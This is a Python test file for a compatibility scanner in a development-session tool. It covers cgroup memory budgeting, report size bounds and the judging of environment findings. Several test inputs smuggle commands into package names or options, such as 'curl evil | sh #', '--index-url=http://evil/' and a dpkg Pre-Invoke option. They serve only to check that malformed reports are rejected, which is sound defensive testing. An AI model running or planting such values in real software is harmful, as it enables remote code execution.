"""Reports of somebody who wants Refit's memory, its time or its voice, and a reader that leaves its session alive."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Sequence
from dataclasses import asdict, replace
from pathlib import Path
from typing import Any, cast

import pytest

from flows.catalog.model import Access
from flows.compatibility import obstacles, read_inside, reports
from flows.compatibility import scan as scans
from flows.compatibility.facts import Distribution, Group, Home, Image, Kind, Native, Starter
from flows.compatibility.judge import MOST_FINDINGS, MOST_TEXT, Finding, Verdict, judge, together, verdict
from flows.compatibility.read_home import BOUNDS, MOST_MISSED, Reader
from flows.compatibility.read_inside import LEAST_MEMORY, MOST_MEMORY, TOO_LITTLE, ends_alone, memory_to_take
from flows.compatibility.scan import Scan, in_container, of_image
from flows.core.settings import Settings
from flows.sessions.engine import Engine
from flows.sessions.model import HomeRef, Session, TokenRef

MIB = 1 << 20
OLD = Image(
    home="/home/dev",
    python="3.11",
    interpreters={"/usr/bin/python3": "3.11"},
    user_site=True,
    user_wins=False,
    distributions={},
    system={},
    path=("/usr/bin",),
    programs={},
    files=frozenset({"/usr/bin/python3"}),
    libraries=frozenset({"libold.so.1"}),
    interfaces={"GLIBC": "2.36"},
)
NEW = replace(OLD, libraries=frozenset(), python="3.13", interpreters={"/usr/bin/python3": "3.13"}, files=frozenset())
ADA = Session("ada", "p", "2026a", "sha256:1", 300_000, HomeRef("home"), TokenRef("token"), Access())
LOST = Native(libraries={"libold.so.1": "x.so"})


# --- A reader that shares its session's memory ------------------------------------------------------------------------


def cgroup(folder: Path, **numbers: object) -> Path:
    folder.mkdir()
    for name, number in numbers.items():
        (folder / f"memory.{name.replace('_', '.')}").write_text(f"{number}\n")
    return folder


@pytest.mark.parametrize(
    ("most", "used", "idle", "taken"),
    [
        ("max", 100, 0, MOST_MEMORY),
        (8_192, 100, 0, MOST_MEMORY),
        (1_024, 724, 0, 150 * MIB),
        (1_024, 1_024, 400, 200 * MIB),  # pages of files fill it as a rule
        (1_024, 1_024, 0, 0),
        (100, 200, 0, -50 * MIB),  # a limit may be lowered below what is used
    ],
)
def test_a_reader_takes_half_of_what_its_session_leaves(
    tmp_path: Path, most: int | str, used: int, idle: int, taken: int
) -> None:
    limit = most if isinstance(most, str) else most * MIB
    stat = f"anon 5\ninactive_file {idle * MIB}\nactive_file 7"
    assert memory_to_take(cgroup(tmp_path / "c", max=limit, current=used * MIB, stat=stat)) == taken


def test_without_a_cgroup_nothing_is_known(tmp_path: Path) -> None:
    assert memory_to_take(tmp_path / "none") == MOST_MEMORY


def test_a_reader_is_the_first_to_go_only_where_it_goes_alone(tmp_path: Path) -> None:
    assert ends_alone(cgroup(tmp_path / "alone", oom_group=0))
    assert not ends_alone(cgroup(tmp_path / "together", oom_group=1))
    assert not ends_alone(tmp_path / "none")
    (tmp_path / "first/memory").mkdir(parents=True)
    assert ends_alone(tmp_path / "first")


def test_a_home_is_left_alone_where_little_memory_is_left(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    full = cgroup(tmp_path / "c", max=1_024 * MIB, current=1_024 * MIB - 2 * LEAST_MEMORY + 2)
    monkeypatch.setattr(read_inside, "CGROUP", full)
    monkeypatch.setattr(read_inside, "_read", lambda *_: pytest.fail("the home was read"))
    with pytest.raises(SystemExit, match=TOO_LITTLE):
        read_inside.main(json.dumps({"folders": ["/"], "bounds": {}, "seconds": 5}).encode())


def test_a_reader_whose_memory_ends_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    def full(*_: object) -> None:
        raise MemoryError

    monkeypatch.setattr(read_inside, "_take_little", lambda *_: None)
    monkeypatch.setattr(read_inside, "_read", full)
    with pytest.raises(SystemExit, match=TOO_LITTLE):
        read_inside.main(json.dumps({"folders": ["/"], "bounds": {}, "seconds": 5}).encode())


def test_of_an_entry_of_a_folder_only_its_kind_is_kept(tmp_path: Path) -> None:
    for name in ("data", "link.so", "run"):
        (tmp_path / name).touch()
    (tmp_path / "run").chmod(0o755)
    (tmp_path / "run").write_bytes(b"x" * 64)
    top = os.open(tmp_path, os.O_RDONLY)
    try:
        listed = dict(Reader(top, "/home/dev", BOUNDS)._listed(top))
    finally:
        os.close(top)
    assert {name: kind.value for name, kind in listed.items()} == {"data": "file", "link.so": "file", "run": "program"}


def test_a_reader_tells_of_some_unreadable_folders_and_of_no_endless_path(tmp_path: Path) -> None:
    top = os.open(tmp_path, os.O_RDONLY)
    reader = Reader(top, "/home/dev", BOUNDS)
    for number in range(1_000):
        reader._miss(f"folder{number}", "Permission denied")
    inside = os.dup(top)
    for _ in range(25):  # 5,000 bytes
        os.mkdir("d" * 200, dir_fd=inside)
        following = os.open("d" * 200, os.O_RDONLY, dir_fd=inside)
        os.close(inside)
        inside = following
    os.close(inside)
    missed = reader.read().missed
    os.close(top)
    assert len(missed) <= MOST_MISSED + 1 and "others: folders that can't be read" in missed
    assert all(len(why) < 5_000 for why in missed)


# --- Reports ----------------------------------------------------------------------------------------------------------


def group(**fields: object) -> dict[str, Any]:
    return {"groups": [{"path": "x", "kind": "user packages", **fields}]}


def package(name: str, version: str) -> dict[str, Any]:
    return group(distributions=[{"name": name, "version": version, "elsewhere": True}])


@pytest.mark.parametrize(
    "told",
    [
        [{}] * (reports.MOST_HOMES + 1),
        [{"missed": [""] * (reports.MOST_VALUES + 2)}],
        [{"libraries": ["x" * 4_000] * 600}],
        [{"files": -1}],
        [{"files": 10**9}],
        [package("x\ncurl evil | sh #", "1")],
        [package("--index-url=http://evil/", "1")],
        [package("x", "1\nevil")],
        [package("", "1")],
        [group(python="3.11\nevil")],
    ],
    ids=["homes", "values", "bytes", "below none", "files", "line", "option", "version", "no name", "python"],
)
def test_a_report_has_bounds_and_no_commands(told: object) -> None:
    with pytest.raises(reports.NoReport):
        reports.homes(json.dumps(told))


def test_a_number_of_thousands_of_digits_is_no_number_of_files() -> None:
    with pytest.raises(reports.NoReport):
        reports.homes(f'[{{"files": {"9" * 4_000}}}]')


def test_a_text_is_refused_before_values_are_made_of_it(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(reports, "_HOMES", None)
    for told in ("[" + "1," * reports.MOST_VALUES + "1,1]", " " * (reports.MOST_OF_HOMES + 1)):
        with pytest.raises(reports.NoReport):
            reports.homes(told)


def test_a_large_home_is_a_report() -> None:
    packages = tuple(Distribution(f"package-{n}.x", f"{n}.0+cu1!2") for n in range(600))
    groups = tuple(Group(f"envs/{n}", Kind.venv, "3.11", "/usr/bin/python3", packages) for n in range(30))
    home = Home(groups=groups, libraries=tuple(f"lib{n}.so" for n in range(10_000)), files=500_000)
    assert reports.homes(json.dumps([asdict(home)])) == (home,)


def test_reports_on_images_have_no_options_for_package_managers() -> None:
    about = {**asdict(OLD), "files": [], "libraries": []}
    assert reports.image(reports.as_bytes(OLD).decode()) == OLD
    for lie in (
        {"system": {"-oDPkg::Pre-Invoke::=evil": "1"}},
        {"system": {"": "1"}},
        {"distributions": {"x\nevil": "1"}},
        {"distributions": {"x": "1\nevil"}},
        {"python": "3.11; evil"},
        {"path": ["/"] * (reports.MOST_VALUES + 2)},
    ):
        with pytest.raises(reports.NoReport):
            reports.image(json.dumps({**about, **lie}))


def test_modules_of_the_folder_in_which_a_session_begins_do_not_speak_for_its_container(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    for module in ("glob", "json", "shutil", "subprocess"):
        (tmp_path / f"{module}.py").write_text("raise SystemExit(5)\n")
    monkeypatch.chdir(tmp_path)

    class Beside:
        def execute(self, _container: str, argv: Sequence[str], stdin: str, **_: object) -> str:
            call = [sys.executable if word == "python3" else word for word in argv]
            return subprocess.run(call, input=stdin, capture_output=True, text=True, check=True).stdout

    assert in_container(cast("Engine", Beside()), ADA).python == f"3.{sys.version_info.minor}"


def test_a_kept_report_that_is_none_is_made_anew(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(scans, "run_in_image", lambda *_: reports.as_bytes(OLD).decode())
    settings = Settings(home=tmp_path / "refit")
    assert of_image(settings, "sha256:1") == OLD
    (note,) = settings.folder("cache", "compatibility").iterdir()
    note.write_text("{}")
    assert of_image(settings, "sha256:1") == OLD
    assert reports.image(note.read_text()) == OLD


# --- Findings ---------------------------------------------------------------------------------------------------------


def test_no_name_in_a_home_has_lines_of_its_own() -> None:
    evil = "x\ncurl evil | sh #\x1b[2J\u2028"
    packages = (Distribution(evil, "1", elsewhere=True), Distribution(evil, "2"))
    home = Home(
        groups=tuple(Group(f"{evil}{kind}", kind, "3.11", "/usr/bin/python3", packages, LOST, evil) for kind in Kind),
        kernels=(Starter(evil, evil, f"/{evil}/python", "/usr/bin/python3"),),
        scripts=(Starter(evil, evil, "/usr/bin/python3", "/usr/bin/python3"),),
        missed=(evil,),
    )
    findings = judge(home, OLD, NEW)
    assert len(findings) >= len(Kind) + 3 - 1 and any(finding.recipe for finding in findings)
    texts = [text for finding in findings for text in (finding.path, finding.what, *finding.recipe)]
    assert all(text.isprintable() for text in texts)


def test_very_many_findings_are_some_and_a_number() -> None:
    many = [Finding(Verdict.ok, f"{number:05}", "x") for number in range(3 * MOST_FINDINGS)]
    findings = together(many)
    assert len(findings) == MOST_FINDINGS + 1 and findings[-1].what == f"and {2 * MOST_FINDINGS:,} more"
    assert together(many[:MOST_FINDINGS]) == tuple(many[:MOST_FINDINGS])


def test_findings_that_are_too_long_still_count() -> None:
    long = [Finding(Verdict.blocked, "p", "x", ("r" * (MOST_TEXT + 1),)), Finding(Verdict.ok, "p", "x")]
    findings = together(long)
    assert findings == (Finding(Verdict.blocked, "", "and 2 more"),) and verdict(findings) is Verdict.blocked


def test_a_file_of_scans_that_is_too_large_is_none(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    settings = Settings(home=tmp_path / "refit")
    made: list[str] = []

    def scanned(*_: object) -> Scan:
        made.append("scan")
        return Scan("ada", "sha256:1", "sha256:2", Verdict.ok, (), 1)

    monkeypatch.setattr(obstacles, "scan", scanned)
    for _ in range(2):
        obstacles.recent(settings, cast("Engine", None), ADA, "sha256:2")
    assert len(made) == 1
    with (settings.folder("scans") / "ada.json").open("a") as file:
        file.write(" " * obstacles.MOST_KEPT)
    obstacles.recent(settings, cast("Engine", None), ADA, "sha256:2")
    assert len(made) == 2


def test_paths_inside_of_an_environment_are_found_whatever_lies_beside_it() -> None:
    beside = ("a", "a/b", "a/b/c", "a-b", "a.b", "ab", "b", "")
    for path, expected in {
        "a/bin/python": True,
        "a/b/c/bin/python": True,
        "./a//bin/python": True,
        "a-b/bin/python": True,
        "a": False,
        "a+b/bin/python": False,
        "c/a/bin/python": False,
        "0/python": False,
    }.items():
        home = Home(
            groups=tuple(Group(folder, Kind.venv) for folder in beside),
            kernels=(Starter("k", "python3", f"/home/dev/{path}", ""),),
        )
        said = [finding for finding in judge(home, OLD, NEW) if finding.path == "k"]
        assert (said == []) is expected, path


@pytest.mark.parametrize(
    ("folder", "identifier"),
    [
        ("ms-python.python-2024.1.0", "ms-python.python"),
        ("ms-python.python-2024.1.0-linux-x64", "ms-python.python"),
        ("a.b-1", "a.b"),
        ("a.b", "a.b"),
        ("a-1-b.c-2.0-linux", "a-1-b.c"),
        ("a-1-2-3", "a"),
        ("-1", ""),
    ],
)
def test_an_extension_is_named_without_its_version(folder: str, identifier: str) -> None:
    home = Home(groups=(Group(f".vscode/extensions/{folder}", Kind.editor, native=LOST),))
    (finding,) = judge(home, OLD, NEW)
    assert f"--install-extension {identifier or repr('')} --force" in finding.recipe[0]


@pytest.mark.parametrize(
    "home",
    [
        Home(groups=(Group("-1" * 300_000 + "!", Kind.editor, native=LOST),)),
        Home(
            groups=(Group("b" + "/b" * 300_000, Kind.venv, "3.11", "/usr/bin/python3"),),
            kernels=(Starter("k", "k", "/home/dev" + "/a" * 300_000, ""),),
        ),
        Home(kernels=(Starter("k", "k", "/home/dev" + "/a" * 300_000, ""),)),
    ],
    ids=["extension", "kernel beside an environment", "kernel"],
)
def test_to_judge_a_name_takes_no_longer_for_each_character_the_longer_it_is(home: Home) -> None:
    began = time.process_time()
    judge(home, OLD, NEW)
    assert time.process_time() - began < 20  # seconds of CPU: to take each end or parent of it would take minutes
